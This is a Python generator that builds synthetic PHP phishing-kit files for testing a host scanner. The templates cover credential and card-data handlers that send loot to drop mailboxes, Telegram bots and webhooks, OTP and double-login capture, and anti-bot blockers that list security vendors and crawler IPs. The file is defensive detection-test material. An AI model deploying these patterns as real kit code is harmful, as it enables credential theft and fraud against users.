#!/usr/bin/env python3
"""Phishing-kit files by technique, and the real applications that resemble them.

Written from how kits on compromised shared hosts are put together (docs/rules.md,
"Phishing kits: the techniques"), not from any corpus sample: every template is a
technique with several independent spellings (variable names, arrays or
concatenation, heredoc messages, curl / file_get_contents / fsockopen, mail() or
PHPMailer, short tags, the drop address in a separate config file, ...). The
benign templates are what real applications do that looks alike: a contact form
mailing the site owner, a CMS login, a geo-IP plugin, a bot-blocking security
plugin, a newsletter signup, a password-reset mailer, an order notification to
Telegram, ...

Everything is text written to a temp dir and scanned, never run or served.
Addresses are .invalid hosts, documentation networks (RFC 5737) or free-mail
boxes with invented local parts; tokens are random.

  phishgen.py --out DIR [--seed N] [--per N]       write the files + variants.tsv
  phishgen.py --scan [--seed N] [--per N] [--bin ./hostsweep] [--show-missed]
        write to a temp dir, scan, print found / high+ per technique
  phishgen.py --check ... : as --scan, exit 1 when a malicious technique is under
        its target or a benign file gets a high/critical finding (the
        integration test tests/integration/scan_phishgen.sh)
"""

import argparse
import json
import os
import random
import shutil
import string
import subprocess
import sys
import tempfile

SEV = {"low": 1, "medium": 2, "high": 3, "critical": 4}
FREEMAIL = ["gmail.com", "yandex.com", "outlook.com", "protonmail.com", "yahoo.com", "aol.com",
            "gmx.de", "mail.ru", "hotmail.com", "zoho.com"]
BRANDS = [("Microsoft", "https://login.microsoftonline.com/"), ("Office 365", "https://www.office.com/"),
          ("PayPal", "https://www.paypal.com/signin"), ("Apple", "https://appleid.apple.com/"),
          ("Netflix", "https://www.netflix.com/login"), ("Chase", "https://www.chase.com/"),
          ("Wells Fargo", "https://www.wellsfargo.com/"), ("DHL", "https://www.dhl.com/"),
          ("Adobe", "https://www.adobe.com/"), ("Coinbase", "https://www.coinbase.com/"),
          ("Amazon", "https://www.amazon.com/ap/signin"), ("Webmail", "https://www.google.com/")]


# ---------------------------------------------------------------------------
# small helpers


def ident(r, pool=None):
    pool = pool or ["msg", "message", "body", "data", "txt", "text", "info", "log", "content", "res",
                    "result", "mail_body", "letter", "output", "str", "m", "isi", "pesan", "tmp", "out",
                    "x", "zz", "rez", "report", "dat", "line"]
    return r.choice(pool) + r.choice(["", "", "", "1", "2", "_", "X", "s"])


def names(r, k, pool=None):
    out = []
    while len(out) < k:
        n = ident(r, pool)
        if n not in out:
            out.append(n)
    return out


def rnd(r, n, alpha=string.ascii_lowercase + string.digits):
    return "".join(r.choice(alpha) for _ in range(n))


def drop_addr(r):
    if r.random() < 0.8:
        return r.choice(["rezult", "logs", "boxx", "jdoe", "king", "money", "drop", "b0ss", "resultz",
                         "spam", "fresh", "inbox"]) + rnd(r, r.randint(2, 5)) + "@" + r.choice(FREEMAIL)
    return rnd(r, 6) + "@" + rnd(r, 7) + ".invalid"


def tg_token(r):
    # a bot token: the bot's id, then "AA" and 33 characters
    return "%d:AA%s" % (r.randint(100000000, 9999999999), rnd(r, 33, string.ascii_letters + string.digits + "_-"))


def chat_id(r):
    return r.choice(["-100", "", "-"]) + str(r.randint(100000000, 9999999999))


def open_tag(r):
    return r.choice(["<?php\n", "<?php\n", "<?PHP\n", "<?php\n/* */\n", "<?php\nerror_reporting(0);\n",
                     "<?php\n@error_reporting(0);\n@ini_set('display_errors', 0);\n"])


def cred_fields(r):
    """(user field, password field) as a kit's form names them."""
    return r.choice([("email", "password"), ("login", "passwd"), ("loginfmt", "passwd"), ("user", "pass"),
                     ("username", "pwd"), ("ai", "pr"), ("em", "ps"), ("userid", "pw"),
                     ("Email", "Passwd"), ("usr", "psw"), ("f1", "f2"), ("x1", "x2")])


def req(r):
    return r.choice(["$_POST", "$_POST", "$_POST", "$_REQUEST"])


def fetch_ip(r, v):
    return r.choice([
        "$%s = $_SERVER['REMOTE_ADDR'];\n" % v,
        "$%s = getenv(\"REMOTE_ADDR\");\n" % v,
        "$%s = isset($_SERVER['HTTP_CF_CONNECTING_IP']) ? $_SERVER['HTTP_CF_CONNECTING_IP'] : $_SERVER['REMOTE_ADDR'];\n" % v,
        "$%s = !empty($_SERVER['HTTP_X_FORWARDED_FOR']) ? $_SERVER['HTTP_X_FORWARDED_FOR'] : $_SERVER['REMOTE_ADDR'];\n" % v,
        "$%s = $_SERVER[\"REMOTE_ADDR\"];\n" % v,
    ])


def fetch_ua(r, v):
    return r.choice(["$%s = $_SERVER['HTTP_USER_AGENT'];\n" % v, "$%s = getenv('HTTP_USER_AGENT');\n" % v,
                     "$%s = @$_SERVER[\"HTTP_USER_AGENT\"];\n" % v])


def geo_lookup(r, ipv, cv):
    return r.choice([
        "$g = json_decode(file_get_contents('http://ip-api.com/json/' . $%s), true);\n$%s = $g['country'];\n" % (ipv, cv),
        "$g = @unserialize(file_get_contents('http://www.geoplugin.net/php.gp?ip=' . $%s));\n$%s = $g['geoplugin_countryName'];\n" % (ipv, cv),
        "$g = json_decode(@file_get_contents(\"https://ipinfo.io/{$%s}/json\"));\n$%s = $g->country;\n" % (ipv, cv),
        "$ch = curl_init('https://ipapi.co/' . $%s . '/json/');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$g = json_decode(curl_exec($ch));\n$%s = $g->country_name;\n" % (ipv, cv),
        "$%s = gethostbyaddr($%s);\n" % (cv, ipv),
        "$%s = '';\n" % cv,
    ])


def brand_redirect(r, url=None):
    url = url or r.choice(BRANDS)[1]
    return r.choice([
        "header(\"Location: %s\");\n" % url,
        "header('Location: ' . '%s');\nexit;\n" % url,
        "echo \"<script>window.location.href='%s';</script>\";\n" % url,
        "echo '<meta http-equiv=\"refresh\" content=\"0;url=%s\">';\n" % url,
        "header(\"Refresh: 0; url=%s\");\n" % url,
        "header('Location: index.php?error=1&email=' . urlencode($_POST['%s']));\n" % r.choice(["email", "login", "user"]),
    ])


def message(r, mv, parts):
    """The kit's message: parts is a list of (label, php expression)."""
    style = r.randrange(6)
    if style == 0:
        s = "$%s = \"\";\n" % mv
        for lab, e in parts:
            s += "$%s .= \"%s : \" . %s . \"\\n\";\n" % (mv, lab, e)
        return s
    if style == 1:
        lines = []
        tmp = ""
        for i, (lab, e) in enumerate(parts):
            tmp += "$v%d = %s;\n" % (i, e)
            lines.append("%s: {$v%d}" % (lab, i))
        return tmp + "$%s = <<<EOT\n------ %s ------\n%s\n-------------------\nEOT;\n" % (
            mv, r.choice(["LOGIN", "Rezult", "New Log", "INFO", "++ Fresh ++"]), "\n".join(lines))
    if style == 2:
        arr = ",\n    ".join("\"%s: \" . %s" % (lab, e) for lab, e in parts)
        return "$%s = implode(\"\\n\", array(\n    %s\n));\n" % (mv, arr)
    if style == 3:
        fmt = "\\n".join("%s: %%s" % lab for lab, _ in parts)
        return "$%s = sprintf(\"%s\\n\", %s);\n" % (mv, fmt, ", ".join(e for _, e in parts))
    if style == 4:
        s = "$%s = \"<b>%s</b><br>\";\n" % (mv, r.choice(["Result", "Login", "Details"]))
        for lab, e in parts:
            s += "$%s .= \"<b>%s</b>: \" . %s . \"<br>\";\n" % (mv, lab, e)
        return s
    s = "$%s = [];\n" % mv
    for lab, e in parts:
        s += "$%s[] = '%s => ' . %s;\n" % (mv, lab, e)
    return s + "$%s = join(PHP_EOL, $%s);\n" % (mv, mv)


def cred_parts(r, rq, uf, pf, ipv, uav=None, cv=None, extra=()):
    parts = [(r.choice(["Email", "User", "Login", "Username", "E-mail", "Online ID"]), "%s['%s']" % (rq, uf)),
             (r.choice(["Password", "Pass", "Passwd", "Pwd", "PassCode"]), "%s['%s']" % (rq, pf))]
    parts += list(extra)
    parts.append((r.choice(["IP", "IP Address", "Client IP", "Victim IP"]), "$" + ipv))
    if uav:
        parts.append(("User-Agent", "$" + uav))
    if cv:
        parts.append(("Country", "$" + cv))
    return parts


def send_mail(r, to_expr, subj_expr, mv):
    style = r.randrange(5)
    hdr = r.choice(["\"From: Logs <noreply@\" . $_SERVER['HTTP_HOST'] . \">\"",
                    "\"MIME-Version: 1.0\\r\\nContent-type: text/html; charset=UTF-8\\r\\n\"", "'From: info'"])
    if style == 0:
        return "mail(%s, %s, $%s, %s);\n" % (to_expr, subj_expr, mv, hdr)
    if style == 1:
        return "@mail(%s, %s, $%s);\n" % (to_expr, subj_expr, mv)
    if style == 2:
        return ("foreach (explode(',', %s) as $rc) {\n    mail($rc, %s, $%s, %s);\n}\n" % (to_expr, subj_expr, mv, hdr))
    if style == 3:
        return ("require 'PHPMailer/PHPMailerAutoload.php';\n$pm = new PHPMailer();\n$pm->setFrom('noreply@' . $_SERVER['HTTP_HOST']);\n"
                "$pm->addAddress(%s);\n$pm->Subject = %s;\n$pm->Body = $%s;\n$pm->send();\n" % (to_expr, subj_expr, mv))
    return "$fn = 'mail';\n$fn(%s, %s, $%s);\n" % (to_expr, subj_expr, mv)


# ---------------------------------------------------------------------------
# malicious techniques: each returns {relative path: text}; the first file is
# the one the technique is measured on (others are its config / includes)


def t_mail_backend(r):
    """Credential handler mailing the victim's login to a fixed drop box."""
    uf, pf = cred_fields(r)
    rq = req(r)
    mv, ipv, uav, cv = names(r, 1)[0], "ip", r.choice(["ua", "agent", "browser"]), r.choice(["country", "cn", "loc"])
    s = open_tag(r) + r.choice(["", "session_start();\n"])
    s += fetch_ip(r, ipv) + (fetch_ua(r, uav) if r.random() < 0.6 else "") + geo_lookup(r, ipv, cv)
    s += message(r, mv, cred_parts(r, rq, uf, pf, ipv, uav if "$" + uav in s else None, cv))
    to = r.choice(["to", "send", "recipient", "mailto", "dest", "owner", "box", "resultbox"])
    a = drop_addr(r)
    s += r.choice(["$%s = \"%s\";\n" % (to, a), "$%s = '%s';\n" % (to, a),
                   "$%s = '%s' . '@' . '%s';\n" % ((to,) + tuple(a.split("@"))),
                   "$%s = base64_decode('%s');\n" % (to, __import__("base64").b64encode(a.encode()).decode())])
    subj = r.choice(["\"Login | $%s\"" % ipv, "'New Result'", "\"%s ReZulT \" . $%s" % (r.choice(BRANDS)[0], ipv),
                     "\"Office Box from \" . $%s" % ipv])
    s += send_mail(r, "$" + to, subj, mv) + brand_redirect(r)
    return {"post.php": s}


def t_mail_config_split(r):
    """The handler with the drop address in a separate config file."""
    uf, pf = cred_fields(r)
    rq = req(r)
    cfgname = r.choice(["config.php", "settings.php", "email.php", "inc/conf.php", "set.php", "ur-email.php"])
    var = r.choice(["receiver", "your_email", "result_mail", "Send", "cfg_mail", "owner"])
    a = drop_addr(r)
    cfg = r.choice([
        "<?php\n$%s = \"%s\";\n" % (var, a),
        "<?php\n$config = array('%s' => '%s', 'save_file' => true);\n" % (var, a),
        "<?php\ndefine('%s', '%s');\n" % (var.upper(), a),
        "<?php\nreturn ['%s' => '%s', 'redirect' => '%s'];\n" % (var, a, r.choice(BRANDS)[1]),
    ])
    to = {"$config": "$config['%s']" % var, "define(": var.upper(), "= \"": "$" + var}
    if cfg.startswith("<?php\nreturn"):
        inc, to_e = "$cfg = include '%s';\n" % cfgname, "$cfg['%s']" % var
    else:
        inc = r.choice(["include '%s';\n", "require_once('%s');\n", "include(__DIR__ . '/%s');\n", "@require \"%s\";\n"]) % cfgname
        to_e = next(v for k, v in to.items() if k in cfg)
    ipv, mv = "ip", ident(r)
    s = open_tag(r) + inc + fetch_ip(r, ipv)
    s += message(r, mv, cred_parts(r, rq, uf, pf, ipv))
    s += send_mail(r, to_e, "\"Result from $%s\"" % ipv, mv) + brand_redirect(r)
    return {r.choice(["next.php", "login.php", "verify.php", "auth.php", "process.php"]): s, cfgname: cfg}


def tg_send(r, tokv, chatv, mv):
    style = r.randrange(6)
    if style == 0:
        return ("file_get_contents(\"https://api.telegram.org/bot\" . $%s . \"/sendMessage?chat_id=\" . $%s . \"&text=\" . urlencode($%s));\n"
                % (tokv, chatv, mv))
    if style == 1:
        return ("$c = curl_init('https://api.telegram.org/bot' . $%s . '/sendMessage');\n"
                "curl_setopt($c, CURLOPT_POST, 1);\ncurl_setopt($c, CURLOPT_POSTFIELDS, array('chat_id' => $%s, 'text' => $%s, 'parse_mode' => 'HTML'));\n"
                "curl_setopt($c, CURLOPT_RETURNTRANSFER, true);\ncurl_exec($c);\ncurl_close($c);\n" % (tokv, chatv, mv))
    if style == 2:
        return ("$api = 'https://' . 'api.tele' . 'gram.org/bot' . $%s;\n"
                "$q = http_build_query(['chat_id' => $%s, 'text' => $%s]);\n@file_get_contents($api . '/sendMessage?' . $q);\n" % (tokv, chatv, mv))
    if style == 3:
        return ("$ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => 'Content-Type: application/json',\n"
                "    'content' => json_encode(array('chat_id' => $%s, 'text' => $%s)))));\n"
                "file_get_contents(base64_decode('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdA==') . $%s . '/sendMessage', false, $ctx);\n" % (chatv, mv, tokv))
    if style == 4:
        return ("$fp = fsockopen('ssl://api.telegram.org', 443, $en, $es, 10);\n"
                "$body = 'chat_id=' . $%s . '&text=' . urlencode($%s);\n"
                "fwrite($fp, \"POST /bot{$%s}/sendMessage HTTP/1.1\\r\\nHost: api.telegram.org\\r\\nContent-Type: application/x-www-form-urlencoded\\r\\nContent-Length: \" . strlen($body) . \"\\r\\nConnection: close\\r\\n\\r\\n\" . $body);\n"
                "fclose($fp);\n" % (chatv, mv, tokv))
    return ("$u = sprintf('https://api.telegram.org/bot%%s/sendMessage?chat_id=%%s&text=%%s', $%s, $%s, rawurlencode($%s));\n"
            "$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, $u);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\ncurl_exec($ch);\n" % (tokv, chatv, mv))


def t_telegram_exfil(r):
    """Credentials and the fingerprint forwarded to a Telegram bot."""
    uf, pf = cred_fields(r)
    rq = req(r)
    tokv, chatv = r.choice([("token", "chat"), ("bot", "id"), ("tk", "cid"), ("botToken", "chatId"), ("api_key", "grp")])
    ipv, mv = "ip", ident(r)
    files = {}
    s = open_tag(r)
    if r.random() < 0.4:
        cfg = r.choice(["tg.php", "config.php", "bot.php"])
        files_cfg = "<?php\n$%s = '%s';\n$%s = '%s';\n" % (tokv, tg_token(r), chatv, chat_id(r))
        s += "require '%s';\n" % cfg
    else:
        cfg = None
        s += "$%s = \"%s\";\n$%s = \"%s\";\n" % (tokv, tg_token(r), chatv, chat_id(r))
    s += fetch_ip(r, ipv)
    extra = ()
    if r.random() < 0.5:
        extra = ((r.choice(["OTP", "SMS Code", "Code"]), "%s['%s']" % (rq, r.choice(["otp", "sms", "code1", "token"]))),)
    s += message(r, mv, cred_parts(r, rq, uf, pf, ipv, extra=extra))
    s += tg_send(r, tokv, chatv, mv) + brand_redirect(r)
    files[r.choice(["send.php", "login.php", "next.php", "step2.php"])] = s
    if cfg:
        files[cfg] = files_cfg
    return files


def t_webhook_exfil(r):
    """Credentials posted to a Discord/Slack webhook or the kit author's collector."""
    uf, pf = cred_fields(r)
    rq = req(r)
    ipv, mv = "ip", ident(r)
    url = r.choice(["https://discord.com/api/webhooks/%d/%s" % (r.randint(10**17, 10**18), rnd(r, 60, string.ascii_letters + string.digits + "_-")),
                    "https://discordapp.com/api/webhooks/%d/%s" % (r.randint(10**17, 10**18), rnd(r, 60)),
                    "https://hooks.slack.com/services/T%s/B%s/%s" % (rnd(r, 8).upper(), rnd(r, 8).upper(), rnd(r, 24)),
                    "https://%s.invalid/gate.php" % rnd(r, 8), "http://203.0.113.%d/api/log" % r.randint(2, 250),
                    "https://webhook.site/%s-%s" % (rnd(r, 8), rnd(r, 4))])
    s = open_tag(r) + "$hook = '%s';\n" % url + fetch_ip(r, ipv)
    s += message(r, mv, cred_parts(r, rq, uf, pf, ipv))
    key = r.choice(["content", "text", "data", "msg"])
    s += r.choice([
        "$c = curl_init($hook);\ncurl_setopt($c, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\n"
        "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('%s' => $%s)));\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\ncurl_exec($c);\n" % (key, mv),
        "$o = array('http' => array('method' => 'POST', 'header' => \"Content-type: application/json\\r\\n\", 'content' => json_encode(['%s' => $%s])));\n"
        "@file_get_contents($hook, false, stream_context_create($o));\n" % (key, mv),
        "$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => $hook, CURLOPT_POST => true, CURLOPT_POSTFIELDS => ['%s' => $%s], CURLOPT_RETURNTRANSFER => true]);\ncurl_exec($ch);\n" % (key, mv),
    ])
    s += brand_redirect(r)
    return {r.choice(["hook.php", "submit.php", "login.php", "xx.php"]): s}


def t_result_file(r):
    """Credentials appended to a results file in the site."""
    uf, pf = cred_fields(r)
    rq = req(r)
    ipv, mv = "ip", ident(r)
    path = r.choice(["results.txt", "../rez/log.txt", "logs/" + rnd(r, 6) + ".html", "result.html", ".data.txt",
                     "vu/%s.txt" % rnd(r, 5), "ok.log"])
    s = open_tag(r) + fetch_ip(r, ipv)
    s += message(r, mv, cred_parts(r, rq, uf, pf, ipv))
    s += r.choice([
        "$fh = fopen('%s', 'a');\nfwrite($fh, $%s . \"\\n\");\nfclose($fh);\n" % (path, mv),
        "file_put_contents('%s', $%s . PHP_EOL, FILE_APPEND | LOCK_EX);\n" % (path, mv),
        "$f = @fopen(\"%s\", \"a+\");\n@fputs($f, $%s);\n@fclose($f);\n" % (path, mv),
        "error_log($%s . \"\\n\", 3, '%s');\n" % (mv, path),
        "$old = @file_get_contents('%s');\nfile_put_contents('%s', $old . $%s);\n" % (path, path, mv),
    ])
    s += brand_redirect(r)
    return {r.choice(["save.php", "log.php", "index2.php", "action.php"]): s}


def t_fingerprint_helper(r):
    """The kit's visitor-information include: IP, geo, browser, OS for the message."""
    fn_b, fn_o = r.choice([("getBrowser", "getOS"), ("browser_name", "os_name"), ("get_browser_name", "get_platform"),
                           ("detectBrowser", "detectOs")])
    ipv = r.choice(["ip", "vip", "client"])
    s = open_tag(r) + fetch_ip(r, ipv)
    s += geo_lookup(r, ipv, "country").replace("$country = '';\n", "$country = gethostbyaddr($%s);\n" % ipv)
    s += ("function %s() {\n    $ua = $_SERVER['HTTP_USER_AGENT'];\n    $list = array('/msie/i' => 'Internet Explorer', '/firefox/i' => 'Firefox',\n"
          "        '/chrome/i' => 'Chrome', '/safari/i' => 'Safari', '/opera/i' => 'Opera', '/edg/i' => 'Edge');\n"
          "    foreach ($list as $re => $n) if (preg_match($re, $ua)) return $n;\n    return 'Unknown';\n}\n" % fn_b)
    s += ("function %s() {\n    $ua = $_SERVER['HTTP_USER_AGENT'];\n    $os = array('/windows nt 10/i' => 'Windows 10', '/iphone/i' => 'iPhone',\n"
          "        '/android/i' => 'Android', '/macintosh|mac os x/i' => 'Mac OS X', '/linux/i' => 'Linux');\n"
          "    foreach ($os as $re => $n) if (preg_match($re, $ua)) return $n;\n    return 'Unknown OS';\n}\n" % fn_o)
    s += r.choice([
        "$hostname = gethostbyaddr($%s);\n$date = date('d/m/Y h:i:s');\n" % ipv,
        "$_SESSION['ip'] = $%s;\n$_SESSION['country'] = $country;\n" % ipv,
        "$info = \"IP: $%s | Country: $country | Browser: \" . %s() . \" | OS: \" . %s();\n" % (ipv, fn_b, fn_o),
    ])
    return {r.choice(["visitor.php", "inc/info.php", "geo.php", "functions.php", "track.php"]): s}


VENDORS = ["phishtank", "netcraft", "kaspersky", "bitdefender", "sophos", "mcafee", "symantec", "fortinet",
           "trendmicro", "avast", "eset", "paloalto", "forcepoint", "zscaler", "barracuda", "spamhaus",
           "virustotal", "urlscan", "proofpoint", "mimecast", "opendns", "cyveillance", "lookingglass",
           "amazonaws", "digitalocean", "ovh", "hetzner", "linode", "googlebot", "msnbot", "above"]
UAS = ["bot", "crawl", "spider", "slurp", "curl", "wget", "python", "headless", "phantomjs", "scrapy", "java/",
       "libwww", "httpclient", "facebookexternalhit", "go-http-client", "nmap"]
PREFIXES = ["66.249.", "64.233.", "66.102.", "72.14.", "74.125.", "209.85.", "216.239.", "38.100.", "207.46.",
            "157.55.", "65.52.", "131.253.", "40.77.", "8.6.48.", "72.30.", "67.195.", "54.176.", "63.229.",
            "194.72.238.", "212.143.", "173.194.", "104.132.", "69.63.176.", "66.220.", "69.171.", "31.13."]


def deny(r):
    return r.choice([
        "header('HTTP/1.0 404 Not Found');\ndie('<h1>404 Not Found</h1>The page that you have requested could not be found.');\n",
        "header(\"Location: https://www.google.com/\");\nexit();\n",
        "http_response_code(404);\nexit;\n",
        "header('Location: %s');\ndie();\n" % r.choice(BRANDS)[1],
        "echo '<script>location.replace(\"https://www.bing.com\")</script>';\nexit;\n",
    ])


def t_antibot_blocker(r):
    """Blocker: vendors' host names, crawler user agents or crawler address prefixes turned away."""
    style = r.randrange(4)
    s = open_tag(r)
    hv = r.choice(["host", "hostname", "h", "rdns"])
    body = deny(r)
    if style == 0:
        lst = r.sample(VENDORS, r.randint(8, 16))
        s += "$%s = strtolower(gethostbyaddr($_SERVER['REMOTE_ADDR']));\n" % hv
        s += "$blocked_words = array(%s);\n" % ", ".join('"%s"' % w for w in lst)
        s += "foreach ($blocked_words as $w) {\n    if (substr_count($%s, $w) > 0) {\n%s    }\n}\n" % (hv, body)
    elif style == 1:
        lst = r.sample(UAS, r.randint(6, 12))
        s += "$agent = strtolower($_SERVER['HTTP_USER_AGENT']);\n"
        s += "if (preg_match('/%s/i', $agent)) {\n%s}\n" % ("|".join(x.replace("/", "\\/") for x in lst), body)
        s += "$%s = gethostbyaddr($_SERVER['REMOTE_ADDR']);\n" % hv
        s += "if (preg_match('/(%s)/i', $%s)) {\n%s}\n" % ("|".join(r.sample(VENDORS, 8)), hv, body)
    elif style == 2:
        lst = r.sample(PREFIXES, r.randint(10, 20))
        s += "$bannedIP = array(%s);\n" % ", ".join('"^%s*"' % p.replace(".", "\\.") for p in lst)
        s += "if (in_array($_SERVER['REMOTE_ADDR'], $bannedIP)) {\n%s} else {\n    foreach ($bannedIP as $ip) {\n" \
             "        if (preg_match('/' . $ip . '/', $_SERVER['REMOTE_ADDR'])) {\n%s        }\n    }\n}\n" % (body, body)
    else:
        lst = r.sample(VENDORS, r.randint(6, 10))
        s += "$ip = $_SERVER['REMOTE_ADDR'];\n$d = json_decode(@file_get_contents(\"http://ip-api.com/json/$ip?fields=isp,org,hosting,proxy\"), true);\n"
        s += "if ($d['hosting'] || $d['proxy']) {\n%s}\n" % body
        s += "foreach (array(%s) as $bad) {\n    if (stripos($d['isp'] . ' ' . $d['org'], $bad) !== false) {\n%s    }\n}\n" % (
            ", ".join("'%s'" % w for w in lst), body)
    return {r.choice(["blocker.php", "bots.php", "antibot/guard.php", "b.php", "inc/ab.php", "netcraft_check.php"]): s}


def t_remote_antibot(r):
    """A remote anti-bot service asked about the visitor (killbot-style API key + verdict)."""
    svc = "https://%s.invalid/api/%s" % (rnd(r, 7), r.choice(["check", "v2/blocker", "antibot", "verify"]))
    key = rnd(r, 32)
    s = open_tag(r) + "$apikey = '%s';\n" % key + fetch_ip(r, "ip") + fetch_ua(r, "ua")
    s += r.choice([
        "$res = json_decode(file_get_contents('%s?apikey=' . $apikey . '&ip=' . $ip . '&ua=' . urlencode($ua)), true);\n" % svc,
        "$ch = curl_init('%s');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, array('key' => $apikey, 'ip' => $ip, 'useragent' => $ua));\n"
        "curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$res = json_decode(curl_exec($ch), true);\n" % svc,
    ])
    field = r.choice(["is_bot", "block_access", "bot", "blocked"])
    s += "if ($res['%s'] == true) {\n%s}\n" % (field, deny(r))
    return {r.choice(["killbot.php", "check.php", "ab.php", "guard.php"]): s}


def t_kit_config(r):
    """The kit's configuration: drop mailbox, Telegram token, result switches."""
    a = drop_addr(r)
    style = r.randrange(4)
    if style == 0:
        s = "<?php\n$%s = \"%s\";\n$save_results = \"yes\";\n$telegram = \"off\";\n$double_login = true;\n$redirect = \"%s\";\n" % (
            r.choice(["Receive_email", "send", "your_email", "to"]), a, r.choice(BRANDS)[1])
    elif style == 1:
        s = ("<?php\n$config = [\n    'email' => '%s',\n    'telegram_token' => '%s',\n    'chat_id' => '%s',\n"
             "    'antibot' => true,\n    'block_vpn' => true,\n    'double_login' => 1,\n];\n" % (a, tg_token(r), chat_id(r)))
    elif style == 2:
        s = "<?php\ndefine('RESULT_EMAIL', '%s');\ndefine('BOT_TOKEN', '%s');\ndefine('CHAT_ID', '%s');\ndefine('SAVE_TXT', 1);\n" % (
            a, tg_token(r), chat_id(r))
    else:
        s = "<?php\n/* config */\n$token = \"%s\";\n$chatid = \"%s\";\n$exit_link = \"%s\";\n$otp_page = 'on';\n" % (
            tg_token(r), chat_id(r), r.choice(BRANDS)[1])
    return {r.choice(["config.php", "settings.php", "conf.php", "admin/config.php", "setting.php"]): s}


def t_landing_copy(r):
    """Per-visitor copy of the kit into a random folder, the visitor sent there."""
    fn = r.choice(["recurse_copy", "xcopy", "cp_dir", "clone_dir", "dupe", "mirror"])
    dv = r.choice(["dir", "folder", "path", "rand", "random", "d"])
    s = open_tag(r)
    s += ("function %s($src, $dst) {\n    $h = opendir($src);\n    @mkdir($dst);\n    while (false !== ($f = readdir($h))) {\n"
          "        if ($f != '.' && $f != '..') {\n            if (is_dir($src . '/' . $f)) %s($src . '/' . $f, $dst . '/' . $f);\n"
          "            else copy($src . '/' . $f, $dst . '/' . $f);\n        }\n    }\n    closedir($h);\n}\n" % (fn, fn))
    s += r.choice(["$%s = md5(rand(0, 99999) . time());\n", "$%s = substr(str_shuffle('abcdefghijklmnopqrstuvwxyz0123456789'), 0, 12);\n",
                   "$%s = bin2hex(random_bytes(6));\n", "$%s = sha1(uniqid('', true));\n"]) % dv
    src = r.choice(["page", "main", "secure", "source", "app"])
    s += "%s('%s', $%s);\n" % (fn, src, dv)
    s += r.choice(["header(\"Location: $%s/index.php\");\n" % dv, "header('Location: ' . $%s . '/?' . $_SERVER['QUERY_STRING']);\n" % dv,
                   "echo \"<meta http-equiv='refresh' content='0; url=./$%s'>\";\n" % dv])
    return {r.choice(["index.php", "go.php", "start.php", "redirect.php"]): s}


def t_card_step(r):
    """Card / bank step: card number, expiry, CVV (with a BIN lookup) sent out."""
    rq = req(r)
    cn, ex, cv = r.choice([("cardnumber", "expdate", "cvv"), ("ccnum", "exp", "cvc"), ("card_no", "expiry", "csc"),
                           ("cc", "mm_yy", "cvv2"), ("n1", "n2", "n3")])
    ipv, mv = "ip", ident(r)
    s = open_tag(r) + "session_start();\n" + fetch_ip(r, ipv)
    if r.random() < 0.5:
        s += "$bin = substr(str_replace(' ', '', %s['%s']), 0, 6);\n$b = json_decode(@file_get_contents('https://lookup.binlist.net/' . $bin));\n" % (rq, cn)
        s += "$bank = $b->bank->name;\n"
        extra = [("Bank", "$bank")]
    else:
        extra = []
    parts = [("Card Number", "%s['%s']" % (rq, cn)), ("Expiry", "%s['%s']" % (rq, ex)), ("CVV", "%s['%s']" % (rq, cv))] + extra
    parts += [("Name on card", "%s['%s']" % (rq, r.choice(["holder", "name", "fullname"]))), ("IP", "$" + ipv)]
    s += message(r, mv, parts)
    dest = r.randrange(3)
    if dest == 0:
        s += send_mail(r, "'%s'" % drop_addr(r), "'CC | ' . $%s" % ipv, mv)
    elif dest == 1:
        tk, ch = "tok", "chat"
        s += "$%s = '%s';\n$%s = '%s';\n" % (tk, tg_token(r), ch, chat_id(r)) + tg_send(r, tk, ch, mv)
    else:
        s += "file_put_contents('../results/cc.txt', $%s, FILE_APPEND);\n" % mv
    s += r.choice(["header('Location: otp.php');\n", "header('Location: ../success.php');\n", brand_redirect(r)])
    return {r.choice(["card.php", "billing.php", "cc.php", "step3.php"]): s}


def t_otp_step(r):
    """OTP / SMS-code step kept in the session, the visitor sent on."""
    rq = req(r)
    of = r.choice(["otp", "sms_code", "code", "token", "smscode", "verif"])
    s = open_tag(r) + "session_start();\n"
    s += r.choice([
        "$_SESSION['otp'] = %s['%s'];\n" % (rq, of),
        "$_SESSION['sms'] = trim(%s['%s']);\n" % (rq, of),
        "$_SESSION['otp_' . $_SESSION['tries']] = %s['%s'];\n" % (rq, of),
    ])
    s += "$_SESSION['tries'] = isset($_SESSION['tries']) ? $_SESSION['tries'] + 1 : 1;\n"
    s += "$msg = \"OTP: \" . %s['%s'] . \"\\nEmail: \" . $_SESSION['email'] . \"\\nPass: \" . $_SESSION['pass'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n" % (rq, of)
    if r.random() < 0.5:
        s += "mail('%s', 'OTP', $msg);\n" % drop_addr(r)
    else:
        s += "$t = '%s';\n$c = '%s';\n" % (tg_token(r), chat_id(r)) + tg_send(r, "t", "c", "msg")
    s += "if ($_SESSION['tries'] < 2) {\n    header('Location: otp.php?error=invalid');\n} else {\n    %s}\n" % brand_redirect(r)
    return {r.choice(["otp.php", "sms.php", "verify_code.php", "codes.php"]): s}


def t_double_login(r):
    """Double login: the first password is always 'wrong', both are sent."""
    uf, pf = cred_fields(r)
    rq = req(r)
    s = open_tag(r) + "session_start();\n"
    s += "if (!isset($_SESSION['attempt'])) {\n    $_SESSION['attempt'] = 1;\n    $_SESSION['pass1'] = %s['%s'];\n" % (rq, pf)
    s += "    header('Location: index.php?e=' . base64_encode(%s['%s']) . '&err=1');\n    exit;\n}\n" % (rq, uf)
    s += "$m = \"Email: \" . %s['%s'] . \"\\nPass1: \" . $_SESSION['pass1'] . \"\\nPass2: \" . %s['%s'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n" % (rq, uf, rq, pf)
    s += r.choice(["mail('%s', 'Double Login', $m);\n" % drop_addr(r),
                   "file_put_contents('rs/r.txt', $m . \"\\n\", FILE_APPEND);\n"])
    s += "session_destroy();\n" + brand_redirect(r)
    return {r.choice(["login.php", "auth.php", "signin.php"]): s}


